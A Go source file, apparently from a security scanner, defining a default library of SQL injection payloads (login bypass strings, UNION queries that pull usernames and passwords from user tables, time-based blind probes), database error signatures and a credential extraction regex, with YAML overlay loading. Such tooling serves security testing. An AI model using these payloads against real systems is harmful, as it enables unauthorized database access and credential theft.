package sqlprobe

import (
	"fmt"
	"os"
	"strings"

	"gopkg.in/yaml.v3"

	secerrors "github.com/khanhnv2901/secora/internal/shared/errors"
)

// identityPlaceholder in a UNION payload is replaced by the probe identity.
const identityPlaceholder = "{identity}"

// Library is the configurable data driving a probe. Fields left empty in a
// YAML file keep their compiled-in defaults.
type Library struct {
	Identity          string   `yaml:"identity"`
	Payloads          []string `yaml:"payloads"`
	UnionPayloads     []string `yaml:"union_payloads"`
	ErrorSignatures   []string `yaml:"error_signatures"`
	FailureMarkers    []string `yaml:"failure_markers"`
	ExtractionPattern string   `yaml:"extraction_pattern"`
	BlindPayloads     []string `yaml:"blind_payloads"`
}

// DefaultLibrary returns the built-in payloads and signatures.
func DefaultLibrary() *Library {
	return &Library{
		Identity: "eve@vulnmail.local",
		Payloads: []string{
			"' OR '1'='1",
			"' OR '1'='1' --",
			"' OR '1'='1' /*",
			"admin' --",
			"admin' #",
			"' OR 1=1--",
			"') OR ('1'='1",
			"' UNION SELECT NULL--",
		},
		UnionPayloads: []string{
			"' UNION SELECT NULL,NULL,NULL--",
			"' UNION SELECT username,password,NULL FROM users--",
			"' UNION SELECT user,password,NULL FROM mysql.user--",
			"' UNION SELECT login,pass,NULL FROM accounts--",
			"' UNION SELECT username,password,email FROM users WHERE email='" + identityPlaceholder + "'--",
		},
		ErrorSignatures: []string{
			// MySQL
			`SQL syntax.*MySQL`,
			`Warning.*mysql_`,
			`valid MySQL result`,
			`MySqlClient\.`,
			// PostgreSQL
			`PostgreSQL.*ERROR`,
			`Warning.*pg_`,
			`valid PostgreSQL result`,
			`Npgsql\.`,
			// MSSQL
			`Driver.*SQL.*Server`,
			`OLE DB.*SQL Server`,
			`SQLServer JDBC Driver`,
			`SqlException`,
			// Oracle
			`Oracle error`,
			`Oracle.*Driver`,
			`Warning.*oci_`,
			`Warning.*ora_`,
		},
		FailureMarkers:    []string{"invalid", "incorrect", "failed"},
		ExtractionPattern: `([a-zA-Z0-9_]+):([a-zA-Z0-9$./]+)`,
		BlindPayloads: []string{
			"' OR SLEEP(5)--",
			"' OR pg_sleep(5)--",
			"'; WAITFOR DELAY '00:00:05'--",
			"' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
		},
	}
}

// LoadLibrary reads a YAML payload file and overlays it on the defaults.
// An empty path returns the defaults.
func LoadLibrary(path string) (*Library, error) {
	lib := DefaultLibrary()
	if path == "" {
		return lib, nil
	}

	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("read payload library: %w", err)
	}
	return ParseLibrary(data)
}

// ParseLibrary overlays YAML data on the defaults and validates the result.
func ParseLibrary(data []byte) (*Library, error) {
	var override Library
	if err := yaml.Unmarshal(data, &override); err != nil {
		return nil, fmt.Errorf("%w: payload library: %v", secerrors.ErrInvalidInput, err)
	}

	lib := DefaultLibrary()
	if override.Identity != "" {
		lib.Identity = override.Identity
	}
	if len(override.Payloads) > 0 {
		lib.Payloads = override.Payloads
	}
	if len(override.UnionPayloads) > 0 {
		lib.UnionPayloads = override.UnionPayloads
	}
	if len(override.ErrorSignatures) > 0 {
		lib.ErrorSignatures = override.ErrorSignatures
	}
	if len(override.FailureMarkers) > 0 {
		lib.FailureMarkers = override.FailureMarkers
	}
	if override.ExtractionPattern != "" {
		lib.ExtractionPattern = override.ExtractionPattern
	}
	if len(override.BlindPayloads) > 0 {
		lib.BlindPayloads = override.BlindPayloads
	}

	if _, err := NewClassifier(lib); err != nil {
		return nil, err
	}
	return lib, nil
}

// unionPayloads returns the UNION payloads with the identity filled in.
func (l *Library) unionPayloads() []string {
	out := make([]string, len(l.UnionPayloads))
	for i, p := range l.UnionPayloads {
		out[i] = strings.ReplaceAll(p, identityPlaceholder, l.Identity)
	}
	return out
}
